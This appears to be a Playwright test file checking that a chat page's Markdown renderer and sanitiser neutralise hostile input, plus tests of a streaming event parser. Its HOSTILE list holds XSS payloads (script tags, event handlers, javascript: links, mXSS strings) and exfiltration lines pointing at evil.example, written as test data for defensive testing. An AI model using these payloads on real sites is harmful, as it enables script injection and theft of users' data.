"""The page's own modules, run in the browser: hostile Markdown, and streams cut anywhere."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect
from site_process import OpenPage, Site

# What a model, or whoever speaks through it, might write to run script or to call home.
HOSTILE = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'></svg>",
    "<iframe src='javascript:parent.hacked = 1'></iframe>",
    "<a href='javascript:window.hacked = 1'>click</a>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](&#106;avascript:window.hacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:x)",
    "<javascript:window.hacked=1>",
    "![x](https://evil.example/steal?q=secret)",
    '![x](https://evil.example/"onerror="window.hacked=1)',
    "[x]: https://evil.example 'onmouseover=\"window.hacked=1\"'\n[x]",
    '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    "```html\n<script>window.hacked = 1</script>\n```",
    "`<img src=x onerror=window.hacked=1>`",
    "| <img src=x onerror=window.hacked=1> | b |\n|:-:|--:|\n| <script>hacked=1</script> | 2 |",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
    "<form action='https://evil.example'><input name=key><button>ok</button></form>",
    "<style>body { background: url(https://evil.example/) }</style>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div id=draft name=draft style='position:fixed;inset:0'>cover</div>",
    ">" * 3000 + "deep",
    "[" * 3000 + "wide",
)

RENDER = """async text => {
    const { show } = await import("/static/markdown.js");
    const element = document.createElement("div");
    document.body.append(element);
    show(element, text);
    await new Promise(resolve => setTimeout(resolve, 50));
    for (const each of element.querySelectorAll("*")) each.dispatchEvent(new Event("mouseover"));
    const found = {
        tags: [...element.querySelectorAll("*")].map(e => e.localName),
        attributes: [...element.querySelectorAll("*")].flatMap(e => e.getAttributeNames()),
        addresses: [...element.querySelectorAll("[href]")].map(e => e.getAttribute("href")),
        text: element.textContent,
        hacked: window.hacked ?? null,
    };
    element.remove();
    return found;
}"""

TAGS = {
    *("a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "span"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "strong", "ul"),
    *("table", "tbody", "td", "th", "thead", "tr"),
}


def test_hostile_markdown_stays_text(scripted_site: Site, open_page: OpenPage) -> None:
    page = open_page(scripted_site)
    for text in HOSTILE:
        found = page.evaluate(RENDER, text)
        assert found["hacked"] is None, text
        assert set(found["tags"]) <= TAGS, text
        assert set(found["attributes"]) <= {"class", "href", "rel", "start", "target"}, text
        for address in found["addresses"]:
            assert address.startswith(("https://", "http://", "mailto:")), text


def test_hostile_answers_reach_nobody(scripted_site: Site, open_page: OpenPage) -> None:
    page = open_page(scripted_site)
    page.locator("#draft").fill("\n\n".join(HOSTILE[:-2]))
    page.locator("#draft").press("Enter")
    expect(page.locator(".answer").last).to_have_attribute("data-status", "done")
    assert page.evaluate("window.hacked ?? null") is None
    assert page.locator(".answer-body img, .answer-body script, .answer-body form").count() == 0


def test_the_sanitiser_holds_without_the_parser(scripted_site: Site, open_page: OpenPage) -> None:
    # The page's policy speaks up even while the sanitiser reads the handler that it takes away.
    page = open_page(scripted_site, blocked="violates the following Content Security Policy")
    html = (
        '<p onclick="x()" style="color:red" id="draft" class="hljs-string side" data-x="1">ok'
        '<img src="https://evil.example/x"><a href="javascript:x()">a</a>'
        '<a href="https://example.org" target="_top">b</a><svg><script>x()</script></svg></p>'
    )
    found = page.evaluate(
        """async html => {
            const { safe } = await import("/static/markdown.js");
            const element = document.createElement("div");
            element.append(safe(html));
            return [...element.querySelectorAll("*")].map(e => [e.localName,
                Object.fromEntries(e.getAttributeNames().map(n => [n, e.getAttribute(n)]))]);
        }""",
        html,
    )
    assert found == [
        ["p", {"class": "hljs-string"}],
        ["a", {}],
        [
            "a",
            {
                "href": "https://example.org",
                "target": "_blank",
                "rel": "noopener noreferrer nofollow",
            },
        ],
    ]


def test_markdown_looks_as_meant(scripted_site: Site, open_page: OpenPage) -> None:
    page = open_page(scripted_site)
    text = "# Title\n\n1. *one*\n2. **two**\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
    text += "```python\nx = 1\n```\n"
    found = page.evaluate(RENDER, text)
    assert found["tags"][:6] == ["h1", "ol", "li", "em", "li", "strong"]
    assert {"table", "pre", "code", "span"} <= set(found["tags"])


def test_finished_blocks_keep_their_elements(scripted_site: Site, open_page: OpenPage) -> None:
    page = open_page(scripted_site)
    kept = page.evaluate(
        """async () => {
            const { show } = await import("/static/markdown.js");
            const element = document.createElement("div");
            show(element, "first\\n\\nsec");
            const first = element.firstChild;
            show(element, "first\\n\\nsecond\\n\\n- third");
            return [element.firstChild === first, element.textContent.replace(/\\s+/g, " ").trim()];
        }"""
    )
    assert kept == [True, "first second third"]


PARSE = """async ({ bytes, size }) => {
    const { serverSentEvents } = await import("/static/api.js");
    const all = Uint8Array.from(bytes);
    const stream = new ReadableStream({
        start(controller) {
            for (let at = 0; at < all.length; at += size) {
                controller.enqueue(all.slice(at, at + size));
            }
            controller.close();
        },
    });
    const events = [];
    for await (const event of serverSentEvents(stream)) events.push(event);
    return events;
}"""


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_streams_may_be_cut_anywhere(scripted_site: Site, open_page: OpenPage, end: str) -> None:
    page = open_page(scripted_site)
    values = [
        json.dumps({"text": text}, ensure_ascii=False) for text in ("é", "日本語", "🦉\u2028")
    ]
    lines = [": a comment", "event: x", f"data: {values[0]}", "", f"data:{values[1]}", "", "id: 7"]
    lines += [f"data: {values[2]}", "", "data: two", "data: lines", "", "data: [DONE]", "", ""]
    stream = list(end.join(lines).encode())
    for size in (1, 2, 3, 5, 1000):
        events = page.evaluate(PARSE, {"bytes": stream, "size": size})
        assert events == [*values, "two\nlines", "[DONE]"], size
